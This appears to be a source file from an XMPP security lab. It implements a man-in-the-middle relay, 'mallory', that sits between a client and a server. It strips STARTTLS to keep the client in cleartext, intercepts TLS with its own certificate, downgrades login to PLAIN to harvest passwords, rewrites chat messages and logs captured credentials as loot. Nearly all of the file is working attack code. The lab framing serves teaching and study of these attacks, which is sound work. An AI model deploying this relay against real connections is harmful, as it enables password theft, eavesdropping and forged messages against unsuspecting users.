import { StringDecoder } from "node:string_decoder";
import type net from "node:net";
import tls from "node:tls";
import type { Element } from "ltx";
import { Element as El } from "ltx";
import type { Direction, Emit, LootItem } from "../lab/core/events.js";
import { NS } from "../lab/core/ns.js";
import { headerXml, labelOf } from "../lab/core/stanzas.js";
import { certFacts, type Identity, type KeyLog, tidyOpenSsl } from "../lab/core/tls.js";
import { XmlStreamParser } from "../lab/core/xml-stream.js";
import { scanBoundary } from "./boundary.js";
import { LootCollector } from "./loot.js";
import { sealedRelay } from "./sealed.js";
import { offerPlain, stripMechanisms, stripStartTls, tamperMessage, type TacticName, type TamperRule } from "./tactics.js";
import { terminateTls, tlsToServer, upstreamStartTls } from "./tls-moves.js";

export interface InterceptionConfig {
  name: string;
  id: string;
  emit: Emit;
  tactics: ReadonlySet<TacticName>;
  identity?: Identity;
  domain: string;
  tamper: TamperRule;
  stripMechanism: (m: string) => boolean;
  timeoutMs: number;
  keylog?: KeyLog;
}

type Item = { xml: string };

const HUNG_UP = "alice hung up without sending a byte through mallory's TLS: she refused the certificate; nothing was learned";


/** One direction of the XML relay: what arrived, not yet forwarded, and whether it changed. */
interface Pipe {
  dir: Direction;
  from: net.Socket;
  to: net.Socket;
  decoder: StringDecoder;
  parser: XmlStreamParser;
  pending: string;
  items: Item[];
  changed: boolean;
  /** Depth at offset `scanned` of `pending`, for the boundary scanner. */
  depth: number;
  /** How far into `pending` the boundary scanner has read (it resumes at an incomplete tag). */
  scanned: number;
  /** A special move took this direction over (its rest is not forwarded as is). */
  suspended: boolean;
}

/**
 * One victim connection through mallory. Bytes are parsed a chunk at a time and forwarded
 * as they came unless a tactic changed an element in that chunk, in which case the chunk's
 * elements are re-serialised. A partial element is held until it completes. The special
 * moves (answer STARTTLS, TLS toward the server, going sealed) swap the sockets underneath.
 */
export class Interception {
  private c2s!: Pipe;
  private s2c!: Pipe;
  private clientHeader: Record<string, string> = {};
  private strippedStartTls = false;
  private clientSecure = false;
  private readonly loot: LootCollector;
  private closed = false;
  /** Async moves in flight (TLS interception, the sslstrip move): stop() waits for them. */
  private readonly moves: Promise<unknown>[] = [];
  /**
   * Handshake done, nothing from alice yet. A pinning client finishes the TLS handshake and
   * only then checks the key, so "alice accepted the certificate" is claimed only once alice
   * sends data through it.
   */
  private awaitingAlice = false;
  /** Set at SASL success when no tactic reads or changes anything after it. */
  private goRaw = false;

  constructor(
    private client: net.Socket,
    private server: net.Socket,
    private readonly cfg: InterceptionConfig,
  ) {
    this.loot = new LootCollector((item) => this.found(item));
    for (const s of [client, server]) {
      s.on("error", () => {});
      s.on("close", () => this.close());
    }
  }

  private has(t: TacticName): boolean {
    return this.cfg.tactics.has(t);
  }

  private emit(body: Parameters<Emit>[1]): void {
    this.cfg.emit(this.cfg.name, body, this.cfg.id);
  }

  private action(tactic: string, text: string): void {
    this.emit({ kind: "action", tactic, text });
  }

  private found(item: LootItem): void {
    if (this.has("loot")) this.emit({ kind: "loot", loot: item });
  }

  /** The first bytes from the client decide: TLS from the first byte (0x16) or XML. */
  start(): void {
    this.client.once("data", (first: Buffer) => {
      if (first[0] === 0x16) this.moves.push(this.directTls(first));
      else {
        this.xmlMode(this.client, this.server);
        this.onData(this.c2s, first);
      }
    });
  }

  close(): void {
    if (this.closed) return;
    this.closed = true;
    if (this.awaitingAlice) {
      this.awaitingAlice = false;
      this.action("intercept-tls", HUNG_UP);
    }
    this.client.destroy();
    this.server.destroy();
  }

  /** Resolves once every async move has finished, so no event arrives after a run ends. */
  settled(): Promise<void> {
    return Promise.allSettled(this.moves).then(() => undefined);
  }

  // ---- TLS from the first byte (XEP-0368) --------------------------------------------------

  private async directTls(first: Buffer): Promise<void> {
    if (!this.has("intercept-tls") || !this.cfg.identity) return this.sealed(first);
    await this.interceptTls(first, "direct");
  }

  /** intercept-tls: TLS with alice under mallory's identity, TLS with the server as mallory. */
  private async interceptTls(first: Buffer | null, how: string): Promise<void> {
    const id = this.cfg.identity!;
    const facts = certFacts(id.cert);
    this.action("intercept-tls", `answers alice's TLS (${how}) with its own certificate: subject ${facts.subject}, issued by ${facts.issuer}`);
    const clientRaw = this.client;
    const serverRaw = this.server;
    try {
      const [toClient, toServer] = await Promise.all([terminateTls(clientRaw, first, id, this.cfg.keylog), tlsToServer(serverRaw, this.cfg.domain, this.cfg.keylog)]);
      this.client = toClient;
      this.server = toServer;
      for (const s of [toClient, toServer]) {
        s.on("error", () => {});
        s.on("close", () => this.close());
      }
      this.clientSecure = true;
      this.awaitingAlice = true;
      this.xmlMode(toClient, toServer);
    } catch (err) {
      // Node clients verify after OpenSSL's handshake and then just close: no alert reaches
      // mallory, only the hang-up. A real alert, when there is one, is quoted.
      const msg = (err as Error).message;
      this.action("intercept-tls", /closed during the handshake/.test(msg) ? HUNG_UP : `alice refused mallory's certificate with a TLS alert (${tidyOpenSsl(msg)}); nothing was learned`);
      this.close();
    }
  }

  // ---- sealed: bytes mallory cannot read -----------------------------------------------------

  private sealed(firstFromClient: Buffer | null): void {
    this.action("observe", "the stream is encrypted now: mallory relays bytes it cannot read and sees only record sizes");
    sealedRelay(this.client, this.server, { emit: (body) => this.emit(body), flip: this.has("flip-bytes") }, firstFromClient);
  }

  // ---- the XML relay ---------------------------------------------------------------------

  private xmlMode(client: net.Socket, server: net.Socket): void {
    this.c2s = this.pipe("c2s", client, server);
    this.s2c = this.pipe("s2c", server, client);
  }

  private pipe(dir: Direction, from: net.Socket, to: net.Socket): Pipe {
    const p: Pipe = { dir, from, to, decoder: new StringDecoder("utf8"), parser: null!, pending: "", items: [], changed: false, depth: 0, scanned: 0, suspended: false };
    p.parser = new XmlStreamParser({
      onStreamStart: (attrs, header) => this.onHeader(p, attrs, header),
      onElement: (el) => this.onElement(p, el),
      onStreamEnd: () => p.items.push({ xml: "</stream:stream>" }),
      onError: () => {
        // Not mallory's job to police XML: from here on, this direction is a plain byte relay.
        this.flush(p, true);
        from.removeAllListeners("data");
        from.pipe(to);
      },
    }, 16 * 1024 * 1024);
    from.removeAllListeners("data");
    from.on("data", (chunk: Buffer) => this.onData(p, chunk));
    from.resume();
    return p;
  }

  private onData(p: Pipe, chunk: Buffer): void {
    const text = p.decoder.write(chunk);
    p.pending += text;
    p.parser.write(text);
    if (p.parser.hasFailed || p.suspended) return;
    // Forward up to the end of the last complete element; hold only the partial one after it.
    const from = p.scanned;
    const b = scanBoundary(p.pending.slice(from), p.depth);
    p.depth = b.depth;
    p.scanned = from + b.resume;
    // No boundary in the new text means no element completed in it: nothing to forward yet.
    if (b.at > 0) this.flush(p, false, from + b.at);
    if (this.goRaw) this.byteRelay();
  }

  /** Forward what arrived: as it came, or re-serialised if a tactic changed part of it. */
  private flush(p: Pipe, raw: boolean, upTo = p.pending.length): void {
    const out = p.changed && !raw ? p.items.map((i) => i.xml).join("") : p.pending.slice(0, upTo);
    p.pending = p.pending.slice(upTo);
    p.scanned = Math.max(0, p.scanned - upTo);
    p.items = [];
    p.changed = false;
    if (out && !p.to.destroyed) p.to.write(out);
  }

  private onHeader(p: Pipe, attrs: Record<string, string>, header: Element): void {
    if (p.dir === "c2s") {
      this.clientHeader = { ...attrs };
      if (this.awaitingAlice) {
        this.awaitingAlice = false;
        this.action("intercept-tls", "alice accepted mallory's certificate and sends her stream through it: mallory reads it decrypted and re-encrypts it to the server");
      }
    }
    const xml = headerXml(header.attrs);
    p.items.push({ xml });
    this.emit({ kind: "relay", dir: p.dir, label: "stream header", xml, edit: null, original: null });
  }

  private onElement(p: Pipe, el: Element): void {
    const original = el.toString();
    const notes: string[] = [];
    let out: Element | null = el;
    if (p.dir === "c2s") {
      this.loot.fromClient(el);
      if (el.name === "starttls" && el.getNS() === NS.tls && this.strippedStartTls) {
        // alice asks for TLS although we hid it (RFC 7590 §3.1): refuse in the server's name.
        this.action("strip-starttls", "alice asked for STARTTLS anyway; mallory answers <failure/> in the server's name");
        out = null;
        this.client.end(new El("failure", { xmlns: NS.tls }).toString() + "</stream:stream>");
      } else if (el.name === "message" && this.has("tamper")) {
        const t = tamperMessage(el, this.cfg.tamper);
        if (t) {
          out = t.el;
          notes.push(...t.notes);
          this.found({ type: "message-tampered", to: (el.attrs.to as string) ?? null, sent: t.sent, delivered: t.delivered });
        }
      }
    } else {
      this.loot.fromServer(el);
      // RFC 6120 §6.3.2: after SASL success only stanzas follow. With no tactic left to read or
      // change them, parsing is pure cost: become a byte relay.
      if (el.name === "success" && el.getNS() === NS.sasl && !["observe", "loot", "tamper"].some((t) => this.has(t as TacticName))) {
        this.goRaw = true;
      }
      if (el.name === "stream:features" && !this.clientSecure) {
        const r = this.editFeatures(el);
        out = r.el;
        notes.push(...r.notes);
        if (r.upstreamStartTls) {
          this.emit({ kind: "relay", dir: p.dir, label: labelOf(el), xml: "", edit: `withheld ${labelOf(el)}: alice never sees them`, original });
          p.changed = true; // the features are withheld: alice gets the post-TLS ones instead
          p.suspended = true;
          p.parser.pause();
          this.moves.push(this.sslstrip(p));
          return;
        }
      } else if (el.name === "proceed" && el.getNS() === NS.tls) {
        p.parser.pause();
        p.suspended = true;
        p.items.push({ xml: original });
        this.emit({ kind: "relay", dir: p.dir, label: labelOf(el), xml: original, edit: null, original: null });
        this.flush(p, true);
        if (this.has("intercept-tls") && this.cfg.identity) this.moves.push(this.interceptTls(null, "after STARTTLS"));
        else this.sealed(null);
        return;
      }
    }
    if (out === null) {
      p.changed = true;
      return;
    }
    const xml = out === el ? original : out.toString();
    if (out !== el) p.changed = true;
    p.items.push({ xml });
    this.emit({ kind: "relay", dir: p.dir, label: labelOf(out), xml, edit: notes.length ? notes.join("; ") : null, original: out === el ? null : original });
  }

  /** Nothing left to parse: forward what is held, then pipe bytes both ways untouched. */
  private byteRelay(): void {
    this.goRaw = false;
    for (const p of [this.c2s, this.s2c]) {
      this.flush(p, true);
      p.suspended = true;
      p.from.removeAllListeners("data");
      p.from.pipe(p.to);
    }
    this.action("observe", "nothing left to change or read: mallory is now a plain byte relay");
  }

  /** The features alice will see: the tactics in their order - strip TLS, then mechanisms, then offer PLAIN. */
  private editFeatures(features: Element): { el: Element; notes: string[]; upstreamStartTls: boolean } {
    let el = features;
    const notes: string[] = [];
    let upstreamStartTls = false;
    if (this.has("strip-starttls")) {
      const r = stripStartTls(el);
      if (r.removed) {
        this.strippedStartTls = true;
        el = r.el;
        notes.push(...r.notes);
        // A server that requires TLS offers nothing else before it (RFC 6120 §5.3.1): go get it -
        // unless offer-plain is chosen, the cruder move: harvest the password, let the login fail.
        upstreamStartTls = (r.required || !el.getChild("mechanisms", NS.sasl)) && !this.has("offer-plain");
      }
    }
    if (this.has("strip-mechanisms")) {
      const r = stripMechanisms(el, this.cfg.stripMechanism);
      el = r.el;
      notes.push(...r.notes);
    }
    if (this.has("offer-plain") && !upstreamStartTls) {
      const r = offerPlain(el);
      el = r.el;
      notes.push(...r.notes);
    }
    return { el, notes, upstreamStartTls };
  }

  /** The server requires TLS: do STARTTLS with it, then show alice its post-TLS features in clear. */
  private async sslstrip(p: Pipe): Promise<void> {
    this.flush(p, false);
    this.action("strip-starttls", "the server requires TLS, so mallory does STARTTLS with it herself and keeps alice in cleartext");
    try {
      const { socket, features } = await upstreamStartTls(this.server, this.clientHeader, this.cfg.domain, this.cfg.timeoutMs, this.cfg.keylog);
      this.server = socket;
      socket.on("error", () => {});
      socket.on("close", () => this.close());
      this.c2s.to = socket;
      this.s2c = this.pipe("s2c", socket, this.client);
      this.action("strip-starttls", "TLS is up toward the server; its SASL features now go to alice as if they were the first ones");
      this.s2c.parser.assumeOpen({ from: this.cfg.domain, xmlns: NS.client, "xmlns:stream": NS.stream });
      this.s2c.depth = 1;
      this.onElement(this.s2c, features);
      this.s2c.changed = true; // the features are forwarded from items: nothing raw is pending
      this.flush(this.s2c, false);
    } catch (err) {
      this.action("strip-starttls", `STARTTLS toward the server failed: ${(err as Error).message}`);
      this.close();
    }
  }
}
